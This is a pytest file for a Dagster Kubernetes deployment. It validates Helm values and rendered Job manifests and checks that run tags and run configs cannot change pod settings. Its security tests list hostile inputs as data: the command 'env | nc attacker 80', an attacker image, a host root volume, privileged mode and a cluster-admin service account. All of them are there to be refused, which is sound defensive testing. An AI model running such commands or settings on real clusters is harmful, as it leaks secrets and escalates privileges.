"""Kubernetes: Helm values against the official chart's schema, and the Job manifest that
dagster-k8s itself builds for a task step."""

import importlib.util
import json
import re
import sys
from contextlib import contextmanager

import dagster as dg
import kubernetes_validate
import pytest
import yaml

from cto_dagster.core.demo.sample_repository import create_sample_repository, guide_tasks_json
from cto_dagster.core.support.names import asset_name_for, label_value
from cto_dagster.defs.k8s_tags import quantity
from cto_dagster.defs.loader import build_definitions
from tests.helpers import REPO_ROOT

VALUES = REPO_ROOT / "helm-values" / "values.yaml"
CHART = REPO_ROOT / "helm-values" / "chart"


def load_validator():
    spec = importlib.util.spec_from_file_location(
        "validate_helm_values", REPO_ROOT / "scripts" / "validate_helm_values.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_values_validate_against_the_chart_schema():
    assert load_validator().validate_values(VALUES, CHART) == []


def test_values_configure_what_the_design_asks_for():
    values = yaml.safe_load(VALUES.read_text())
    deployment = values["dagster-user-deployments"]["deployments"][0]
    # a code server the UI's "Reload" reloads (tests/test_image.py): tasks pushed later show up
    assert deployment["codeServerArgs"] == ["-m", "cto_dagster.definitions"]
    assert "dagsterApiGrpcArgs" not in deployment
    assert {"name": "CTO_DAGSTER_KIND", "value": "kubernetes"} in deployment["env"]
    launcher = values["runLauncher"]["config"]["customRunLauncher"]
    assert (launcher["module"], launcher["class"]) == ("dagster_k8s", "K8sRunLauncher")
    assert {"CTO_DAGSTER_KIND=kubernetes"} <= set(launcher["config"]["env_vars"])
    assert values["dagsterDaemon"]["runCoordinator"]["type"] == "QueuedRunCoordinator"
    assert values["dagsterDaemon"]["runMonitoring"]["enabled"] is True
    assert values["concurrency"]["pools"]["defaultLimit"] > 0
    assert {"name": "cto-dagster-git"} in deployment["envSecrets"]
    assert launcher["config"]["env_secrets"] == ["cto-dagster-git"]
    # issue 14's defects 8: private registry, lasting step logs, fresh images, no password here
    assert values["imagePullSecrets"] == [{"name": "ghcr-pull"}]
    assert values["computeLogManager"]["type"] != "NoOpComputeLogManager"
    assert deployment["image"]["pullPolicy"] == "Always"
    assert "postgresqlPassword" not in values["postgresql"]
    assert values["generatePostgresqlPasswordSecret"] is False
    # defect 5: runs and integration pods are not labelled as task pods
    assert "project-play" not in (launcher["config"].get("labels") or {})


def test_the_image_build_context_and_layers_stay_small():
    """Defect 6: the build context held .venv (991 MB); a README edit rebuilt the dependencies."""
    lines = (REPO_ROOT / ".dockerignore").read_text().splitlines()
    ignore = [line for line in lines if line and not line.startswith("#")]
    assert ignore[0] == "*" and {"!pyproject.toml", "!uv.lock", "!cto_dagster/"} <= set(ignore)
    dockerfile = (REPO_ROOT / "Dockerfile").read_text()
    dependencies = dockerfile.index("--no-install-project")
    assert dockerfile.index("COPY README.md") > dependencies
    assert "COPY --from=builder /opt/cto-dagster/.venv" in dockerfile  # uv stays in the builder
    assert "WORKDIR /home/agent" in dockerfile and "USER 1000" in dockerfile


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "pullPolicy: Always",
            "pullPolicy: Sometimes",
            "dagster-user-deployments.deployments.0.image.pullPolicy: 'Sometimes' is not one of",
        ),
        ("type: QueuedRunCoordinator", "type: FastRunCoordinator", "runCoordinator.type"),
        (
            "requests: {cpu: 250m, memory: 512Mi}",
            "requests: {cpu: [1]}",
            "deployments.0.resources",
        ),
    ],
)
def test_a_wrong_value_fails_with_a_clear_error(tmp_path, old, new, expected):
    text = VALUES.read_text()
    assert old in text
    bad = tmp_path / "values.yaml"
    bad.write_text(text.replace(old, new, 1))
    errors = load_validator().validate_values(bad, CHART)
    assert any(expected in error for error in errors), errors


def test_validator_cli_exit_codes(tmp_path):
    import subprocess

    script = REPO_ROOT / "scripts" / "validate_helm_values.py"

    def validate(values):
        command = [sys.executable, str(script), str(values), "--chart", str(CHART)]
        return subprocess.run(command, capture_output=True, text=True, check=False)

    ok = validate(VALUES)
    assert ok.returncode == 0 and "✅" in ok.stdout
    bad = tmp_path / "v.yaml"
    bad.write_text("dagsterWebserver:\n  replicaCount: many\n")
    failed = validate(bad)
    assert failed.returncode == 1 and "dagsterWebserver.replicaCount" in failed.stderr


# --------------------------------------------------------------------------------- rendered Jobs
# Every kind of step Job, made by dagster-k8s's own step handler inside a real run (the
# play_k8s executor), with the run launcher configured from helm-values/values.yaml as the chart
# renders it, sent to a stand-in of the Kubernetes API and validated as the API server would.

LABEL = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
IMAGE = "ghcr.io/your-org/cto-dagster:0.1.0"


def write_project(tmp_path, monkeypatch, long_id: str | None = None) -> None:
    tasks = json.loads(guide_tasks_json())
    if long_id:
        tasks["master"]["tasks"].append({"id": long_id, "title": "long", "dependencies": [1]})
    remote = create_sample_repository(tmp_path / "repo", json.dumps(tasks))
    project = {
        "name": "shop",
        "repository": str(remote),
        "agent": {"preset": "demo", "timeout_seconds": 1800},
        "kubernetes": {"task_resources": {"3": {"requests": {"cpu": "2", "memory": "4Gi"}}}},
        "max_retries": 0,
    }
    config = tmp_path / "cto.yaml"
    config.write_text(yaml.safe_dump({"projects": [project]}))
    monkeypatch.setenv("CTO_DAGSTER_CONFIG", str(config))
    monkeypatch.setenv("CTO_DAGSTER_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("CTO_DAGSTER_KIND", "kubernetes")


@pytest.fixture
def k8s_defs(monkeypatch, tmp_path):
    write_project(tmp_path, monkeypatch)
    return build_definitions()


def render_step_jobs(
    tmp_path,
    steps: dict[str, tuple[str, bool | dict]],
    project: str = "shop",
    job_name: str = "",
) -> dict[str, dict]:
    """name -> the Job manifest the step handler sent for that asset of `project` (run with
    parallel or not, or with that executor config), from its `play_project` job (`job_name`
    when several projects)."""
    from dagster._core.definitions.reconstruct import ReconstructableRepository
    from dagster._core.instance.ref import InstanceRef

    from tests.k8s_api import KubernetesApi, run_launcher_config

    module = tmp_path / "k8s_defs_module.py"
    module.write_text(
        "from cto_dagster.defs.loader import build_definitions\ndefs = build_definitions()\n"
    )
    job = ReconstructableRepository.for_file(str(module), "defs").get_reconstructable_job(
        job_name or "play_project"
    )
    values = yaml.safe_load(VALUES.read_text())
    rendered = {}
    with KubernetesApi(refuse_jobs=True) as api:
        home = tmp_path / "home"
        home.mkdir(exist_ok=True)
        launcher = run_launcher_config(values, api.kubeconfig(tmp_path / "kubeconfig"))
        (home / "dagster.yaml").write_text(yaml.safe_dump({"run_launcher": launcher}))
        with (
            dg.DagsterInstance.from_ref(InstanceRef.from_dir(str(home))) as instance,
            deployment_executor({"job_image": IMAGE}),
        ):
            for name, (asset, parallel) in steps.items():
                executor = (
                    parallel if isinstance(parallel, dict) else {"parallel_execution": parallel}
                )
                before = len(api.jobs)
                dg.execute_job(
                    job.get_subset(asset_selection={dg.AssetKey([project, asset])}),
                    instance,
                    run_config={"execution": {"config": executor}},
                    raise_on_error=False,
                )
                assert len(api.jobs) == before + 1, f"no Job was created for {name}"
                rendered[name] = api.jobs[-1]
    return rendered


def check_rules(manifest: dict) -> None:
    """What the schema cannot see: requests within limits, valid labels, no API token."""
    kubernetes_validate.validate(manifest, "1.37.0", strict=True)
    for labels in (
        manifest["metadata"]["labels"],
        manifest["spec"]["template"]["metadata"]["labels"],
    ):
        for key, value in labels.items():
            assert LABEL.match(value) and len(value) <= 63, (key, value)
    pod = manifest["spec"]["template"]["spec"]
    assert pod["automountServiceAccountToken"] is False  # a step needs no Kubernetes API
    for container in pod["containers"]:
        resources = container.get("resources") or {}
        for name, wanted in (resources.get("requests") or {}).items():
            limit = (resources.get("limits") or {}).get(name)
            assert limit is None or quantity(limit) >= quantity(wanted), (name, wanted, limit)
    assert manifest["spec"]["activeDeadlineSeconds"] > 0


def test_every_kind_of_step_job_renders_valid_through_the_real_step_handler(monkeypatch, tmp_path):
    write_project(tmp_path, monkeypatch)
    jobs = render_step_jobs(
        tmp_path,
        {
            "task": ("task_002", True),
            "task with its own resources": ("task_003", True),
            "integration": ("integration_level_0", True),
            "metrics": ("run_metrics", True),
            "one pod at a time": ("task_001", False),
            "one pod at a time by max_concurrent": ("task_001", {"max_concurrent": 1}),
        },
    )
    for manifest in jobs.values():
        check_rules(manifest)
    task = jobs["task"]
    labels = task["spec"]["template"]["metadata"]["labels"]
    assert {
        "task-id": "2",
        "execution-level": "1",
        "project-play": "true",
    }.items() <= labels.items()
    assert labels["parallel-execution"] == "true" and labels["repository"] == "shop"
    container = task["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == IMAGE
    assert container["resources"]["requests"] == {"cpu": "500m", "memory": "1Gi"}
    assert task["spec"]["activeDeadlineSeconds"] == 1800 + 600
    # the agent's sandbox on Kubernetes: root with just the capabilities to start it as nobody
    security = container["securityContext"]
    assert security["runAsUser"] == 0 and security["allowPrivilegeEscalation"] is False
    assert (
        security["capabilities"]["drop"] == ["ALL"] and "SETUID" in security["capabilities"]["add"]
    )
    # a 4Gi request under the run launcher's 1Gi limit: the task's own limit wins the merge
    heavy = jobs["task with its own resources"]["spec"]["template"]["spec"]["containers"][0]
    assert heavy["resources"]["requests"] == {"cpu": "2", "memory": "4Gi"}
    assert quantity(heavy["resources"]["limits"]["memory"]) >= quantity("4Gi")
    sequential = jobs["one pod at a time"]["spec"]["template"]["metadata"]["labels"]
    assert sequential["parallel-execution"] == "false"
    # parallel_execution left true, but the run allows one pod at a time: not parallel either
    for where in ("metadata", "spec"):
        manifest = jobs["one pod at a time by max_concurrent"]
        meta = (
            manifest["metadata"] if where == "metadata" else manifest[where]["template"]["metadata"]
        )
        assert meta["labels"]["parallel-execution"] == "false", where
    for kind in ("integration", "metrics"):
        pod_labels = jobs[kind]["spec"]["template"]["metadata"]["labels"]
        assert "project-play" not in pod_labels and "task-id" not in pod_labels, kind
        assert pod_labels["cto-step"] == kind


def test_a_long_slug_id_loads_and_renders(monkeypatch, tmp_path):
    """Slug ids up to TaskMaster's limits: tag and label values hold 63 characters."""
    long_id = "implement-the-" + "very-" * 15 + "long-task"  # 98 characters
    write_project(tmp_path, monkeypatch, long_id=long_id)
    defs = build_definitions()
    name = asset_name_for(long_id)
    node = defs.resolve_asset_graph().get(dg.AssetKey(["shop", name]))
    assert len(node.tags["cto/task_id"]) <= 63
    jobs = render_step_jobs(tmp_path, {"long": (name, True)})
    check_rules(jobs["long"])
    label = jobs["long"]["metadata"]["labels"]["task-id"]
    assert label.startswith("implement-the-very") and len(label) <= 63
    assert label != label_value(long_id + "x")  # a hash keeps two long ids apart


def test_kubernetes_variant_loads_with_the_k8s_executor(k8s_defs):
    job = k8s_defs.resolve_job_def("play_project")
    assert job.executor_def.name == "play_k8s"
    assert "parallel_execution" in job.executor_def.config_schema.as_field().config_type.fields
    assert k8s_defs.resolve_asset_graph().get(dg.AssetKey(["shop", "task_004"]))


def test_step_pods_plan_from_the_commit_the_run_planned_from(k8s_defs, tmp_path):
    """A run lasts hours: its step pods get the commit of the tasks file it planned from, and the
    durations it learned from earlier runs."""
    from dagster._config import process_config
    from dagster._core.definitions.job_base import InMemoryJob

    from cto_dagster.core.settings import PINNED_COMMITS_ENV, planned_commits
    from tests.k8s_api import KubernetesApi

    job = k8s_defs.resolve_job_def("play_project")
    schema = job.executor_def.config_schema.config_type
    with KubernetesApi() as api:
        deployment = {
            "env_vars": ["EXTRA=1"],
            "load_incluster_config": False,
            "kubeconfig_file": str(api.kubeconfig(tmp_path / "kubeconfig")),
        }
        config = process_config(schema, {"parallel_execution": False}).value
        with (
            dg.DagsterInstance.from_config(str(tmp_path)) as instance,
            deployment_executor(deployment),
        ):
            executor = job.executor_def.executor_creation_fn(
                dg.InitExecutorContext(
                    job=InMemoryJob(job),
                    executor_def=job.executor_def,
                    executor_config=config,
                    instance=instance,
                )
            )
    context = executor._step_handler._executor_container_context
    env = {e["name"]: e.get("value") for e in context.run_k8s_config.container_config["env"]}
    commits = planned_commits()
    assert commits and all(len(sha) == 40 for sha in commits.values())
    from cto_dagster.core.planning.predictions import LEARNED_ENV, learned_pin

    assert env == {
        "EXTRA": "1",
        PINNED_COMMITS_ENV: json.dumps(commits, sort_keys=True),
        LEARNED_ENV: learned_pin(),  # the durations it predicted from, for the same priorities
    }
    assert executor._max_concurrent == 1  # parallel_execution: false


# ------------------------------------------------------------------------------------ run pods


def test_only_a_run_workers_arguments_name_a_run():
    from dagster._core.code_pointer import ModuleCodePointer
    from dagster._core.origin import JobPythonOrigin, RepositoryPythonOrigin
    from dagster._grpc.types import ExecuteRunArgs, ResumeRunArgs

    from cto_dagster.defs.run_pods import run_worker_run_id

    pointer = ModuleCodePointer("cto_dagster.definitions", "defs", None)
    python_origin = JobPythonOrigin("play_project", RepositoryPythonOrigin(sys.executable, pointer))
    for kind in (ExecuteRunArgs, ResumeRunArgs):
        args = kind(job_origin=python_origin, run_id="abc-123", instance_ref=None)
        assert run_worker_run_id(["dagster", *args.get_command_args()[-3:]]) == "abc-123"
    assert run_worker_run_id(["dagster", "api", "grpc", "-m", "cto_dagster.definitions"]) is None
    assert run_worker_run_id(["dagster", "api", "execute_run", "{not json"]) is None
    assert run_worker_run_id(["pytest"]) is None


@pytest.mark.slow
def test_a_run_pod_plans_the_commit_its_run_was_created_from(monkeypatch, tmp_path):
    """On a cluster each run is a pod of its own (K8sRunLauncher: `dagster api execute_run`),
    which plans the project again in a fresh container. A task pushed after the code location
    loaded does not change the run the UI created: the run pod plans the commit the run's job
    snapshot was planned from, and its step pods get that commit."""
    import os
    import subprocess

    from cto_dagster.commands.runs.code_server import new_log_file
    from cto_dagster.commands.runs.code_server_launch import code_location, create_run
    from cto_dagster.core.settings import PINNED_COMMITS_ENV
    from cto_dagster.defs.kubernetes import DEPLOYMENT_ENV
    from tests.helpers import push_to_main
    from tests.k8s_api import KubernetesApi, run_launcher_config

    write_project(tmp_path, monkeypatch)
    remote = tmp_path / "repo" / "remote.git"
    head = subprocess.run(["git", "-C", str(remote), "rev-parse", "main"], capture_output=True)
    planned = head.stdout.decode().strip()
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("DAGSTER_HOME", str(home))
    monkeypatch.setenv("DAGSTER_CURRENT_IMAGE", IMAGE)  # what the chart sets in the deployment
    monkeypatch.delenv(PINNED_COMMITS_ENV, raising=False)
    values = yaml.safe_load(VALUES.read_text())
    with KubernetesApi() as api:
        kubeconfig = api.kubeconfig(tmp_path / "kubeconfig")
        launcher = run_launcher_config(values, kubeconfig)
        (home / "dagster.yaml").write_text(yaml.safe_dump({"run_launcher": launcher}))
        deployment = {"job_image": IMAGE, "load_incluster_config": False}
        deployment["kubeconfig_file"] = str(kubeconfig)
        monkeypatch.setenv(DEPLOYMENT_ENV, json.dumps(deployment))  # the run pod's environment
        with dg.DagsterInstance.get() as instance:
            with code_location(instance, new_log_file(home)) as workspace:
                run = create_run(instance, workspace, "play_project", {})
                instance.launch_run(run.run_id, workspace)
        assert len(api.jobs) == 1, "K8sRunLauncher created no run Job"
        container = api.jobs[0]["spec"]["template"]["spec"]["containers"][0]
        command = [*(container.get("command") or []), *(container.get("args") or [])]
        assert command[:3] == ["dagster", "api", "execute_run"], command[:3]

        tasks = json.loads(guide_tasks_json())
        tasks["master"]["tasks"].append({"id": 7, "title": "pushed later", "dependencies": [1]})
        files = {".taskmaster/tasks/tasks.json": json.dumps(tasks)}
        push_to_main(remote, tmp_path / "clone", files, "a task pushed after the run was created")

        api.refuse_jobs = True  # the step pods' Jobs are recorded, then fail at once
        pod = subprocess.run(
            [sys.executable, "-m", "dagster", *command[1:]],
            env={**os.environ, "CTO_DAGSTER_CACHE": str(tmp_path / "fresh-pod-cache")},
            cwd=REPO_ROOT,
            capture_output=True,
            text=True,
            timeout=300,
        )
        step_jobs = api.jobs[1:]
    assert step_jobs, pod.stdout[-3000:] + pod.stderr[-3000:]
    for job in step_jobs:
        env = job["spec"]["template"]["spec"]["containers"][0]["env"]
        pins = {e["name"]: e.get("value") for e in env}[PINNED_COMMITS_ENV]
        assert set(json.loads(pins).values()) == {planned}, job["metadata"]["name"]
    with dg.DagsterInstance.get() as instance:
        snapshot = instance.get_job_snapshot(instance.get_run_by_id(run.run_id).job_snapshot_id)
    ops = {op.name: op.tags for op in snapshot.node_defs_snapshot.op_def_snaps}
    assert "shop__task_007" not in ops and ops["shop__task_001"]["cto/tasks_commit"] == planned


def test_a_run_tag_cannot_change_the_run_pod(monkeypatch, tmp_path):
    """The run pod holds the git token and the database password: a run created with a
    `dagster-k8s/config` tag (in the launchpad, over GraphQL) naming its command, image or
    environment is refused at launch by dagster-k8s's allowlist, and no Job is created; the
    same run without the tag launches."""
    from cto_dagster.commands.runs.code_server import new_log_file
    from cto_dagster.commands.runs.code_server_launch import code_location, create_run
    from tests.k8s_api import KubernetesApi, run_launcher_config

    write_project(tmp_path, monkeypatch)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("DAGSTER_HOME", str(home))
    monkeypatch.setenv("DAGSTER_CURRENT_IMAGE", IMAGE)
    hostile = {
        "container_config": {
            "image": "attacker/image:latest",
            "command": ["sh", "-c", "env | nc attacker 80"],
            "env": [{"name": "CTO_DAGSTER_K8S_EXECUTOR", "value": '{"job_image": "x"}'}],
        }
    }
    values = yaml.safe_load(VALUES.read_text())
    with KubernetesApi() as api:
        launcher = run_launcher_config(values, api.kubeconfig(tmp_path / "kubeconfig"))
        (home / "dagster.yaml").write_text(yaml.safe_dump({"run_launcher": launcher}))
        with dg.DagsterInstance.get() as instance:
            with code_location(instance, new_log_file(home)) as workspace:
                for field, value in hostile["container_config"].items():
                    tag = json.dumps({"container_config": {field: value}})
                    run = create_run(
                        instance, workspace, "play_project", {}, {"dagster-k8s/config": tag}
                    )
                    with pytest.raises(Exception, match="violated the allowed list"):
                        instance.launch_run(run.run_id, workspace)
                assert api.jobs == [], "a Job was created for a run with a hostile tag"
                plain = create_run(instance, workspace, "play_project", {})
                instance.launch_run(plain.run_id, workspace)
        assert len(api.jobs) == 1, "the run without the tag did not launch"
        pod = api.jobs[0]["spec"]["template"]["spec"]
    container = pod["containers"][0]
    assert container["image"] == IMAGE
    env = {e["name"]: e.get("value") for e in container.get("env") or []}
    assert env["CTO_DAGSTER_KIND"] == "kubernetes" and "CTO_DAGSTER_K8S_EXECUTOR" not in env
    assert pod["securityContext"]["runAsUser"] == 1000
    assert {"name": "projects", "mountPath": "/etc/cto-dagster", "readOnly": True} in container[
        "volumeMounts"
    ]


@contextmanager
def deployment_executor(fields: dict):
    """dagster-k8s's executor fields as the deployment sets them (the code location's
    environment), for an executor made in this process."""
    from cto_dagster.defs.kubernetes import DEPLOYMENT_ENV

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(DEPLOYMENT_ENV, json.dumps(fields))
        yield


def test_a_run_config_cannot_set_where_or_how_pods_run(k8s_defs, monkeypatch):
    """Image, secrets, volumes, service account, pod spec: the deployment's; a run config naming
    them is refused at launch, naming the field. How many pods at once stays a run's choice."""
    from cto_dagster.defs.kubernetes import DEPLOYMENT_ENV, deployment_config

    job = k8s_defs.resolve_job_def("play_project")
    for field, value in {
        "job_image": "attacker/image",
        "env_secrets": ["cto-dagster-git"],
        "env_vars": ["GITHUB_TOKEN"],
        "volumes": [{"name": "host", "host_path": {"path": "/"}}],
        "service_account_name": "cluster-admin",
        "step_k8s_config": {"container_config": {"command": ["sh"]}},
        "per_step_k8s_config": {"shop__task_001": {"pod_spec_config": {"host_pid": True}}},
        "security_context": {"privileged": True},
        "kubeconfig_file": "/tmp/attacker",
    }.items():
        with pytest.raises(dg.DagsterInvalidConfigError, match=f'"{field}"'):
            dg.validate_run_config(job, {"execution": {"config": {field: value}}})
    dg.validate_run_config(job, {"execution": {"config": {"max_concurrent": 2}}})
    monkeypatch.setenv(DEPLOYMENT_ENV, json.dumps({"job_image": "ours", "no_such_field": 1}))
    with pytest.raises(dg.Failure, match="names no_such_field"):
        deployment_config()
